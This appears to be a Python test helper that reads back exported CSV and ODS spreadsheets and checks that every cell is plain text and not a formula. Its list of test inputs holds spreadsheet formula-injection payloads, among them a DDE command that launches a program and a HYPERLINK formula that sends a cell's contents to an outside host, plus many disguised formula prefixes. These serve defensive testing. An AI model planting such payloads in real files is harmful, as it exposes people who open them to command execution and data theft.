"""Reads back what the office saves: an ODS file by its XML, a CSV as spreadsheets do."""

import csv
import io
import re
import zipfile
from xml.etree import ElementTree

_NS = "{urn:oasis:names:tc:opendocument:xmlns:%s:1.0}"
_TEXT, _TABLE, _OFFICE = _NS % "text", _NS % "table", _NS % "office"

# What starts a formula somewhere, and how it may be hidden from the eye.
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.it/?"&A1;"premi")', "@SUM(1+1)",
    "+39 0000 000000", "+390000000000", "-2+3", "--1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1",
    "''=1+1", '"=1+1', '";=1+1', ";=1+1", "a\n=1+1", "%0A=1+1", "1e5", "1/2", "0001", "VERO",
    "{=1+1}", "=", "'", "",
)  # fmt: skip


def read_csv(data: bytes) -> list[list[str]]:
    """The cells as a spreadsheet would take them: the apostrophe of `sheets` stays."""
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";", strict=True))


def without_apostrophe(cell: str) -> str:
    """A cell as it was before its apostrophe."""
    return (
        cell[1:]
        if re.match("'+[\t\r\n \u00a0\u2000-\u200f\u2060\u3000\ufeff=+@＝＋－＠-]", cell)
        else cell
    )


def read_ods(data: bytes) -> list[list[str]]:
    """The cells of the only table; every one has to be a text, and none a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        first = archive.infolist()[0]
        assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
        assert data[38:].startswith(b"application/vnd.oasis.opendocument.spreadsheet")
        listed = ElementTree.fromstring(archive.read("META-INF/manifest.xml"))
        paths = [entry.attrib[f"{_NS % 'manifest'}full-path"] for entry in listed]
        assert {"mimetype", "META-INF/manifest.xml", *paths} - {"/"} == set(archive.namelist())
        content = ElementTree.fromstring(archive.read("content.xml"))
    assert b"table:formula" not in ElementTree.tostring(content)
    [table] = content.iter(f"{_TABLE}table")
    return [
        [_cell(cell) for cell in row.iter(f"{_TABLE}table-cell")]
        for row in table.iter(f"{_TABLE}table-row")
    ]


def _cell(cell: ElementTree.Element) -> str:
    lines = [_line(line) for line in cell.iter(f"{_TEXT}p")]
    if lines:
        assert cell.attrib[f"{_OFFICE}value-type"] == "string"
    assert not [name for name in cell.attrib if name.endswith(("formula", "}value"))]
    return "\n".join(lines)


def _line(line: ElementTree.Element) -> str:
    blanks = {f"{_TEXT}s": " ", f"{_TEXT}tab": "\t"}
    # Written as it is, white space counts once, and not at all at the edges.
    kept = [line.text or ""]
    for part in line:
        kept += [blanks[part.tag], part.tail or ""]
    bare = "".join(word for word in kept if word not in (" ", "\t"))
    assert "  " not in bare
    return "".join(kept)
